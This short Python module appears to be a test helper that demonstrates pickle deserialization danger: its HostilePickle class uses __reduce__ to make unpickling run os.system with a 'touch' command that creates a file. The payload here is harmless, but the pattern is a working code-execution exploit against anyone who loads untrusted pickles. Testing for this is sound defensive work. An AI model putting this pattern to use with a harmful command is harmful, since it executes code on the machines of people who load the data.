"""What a pickle can do to who reads it."""

from __future__ import annotations

import os
from pathlib import Path


class HostilePickle:
    """Unpickled, it writes a file."""

    def __init__(self, file: Path) -> None:
        self.file = file

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"touch {self.file}",)
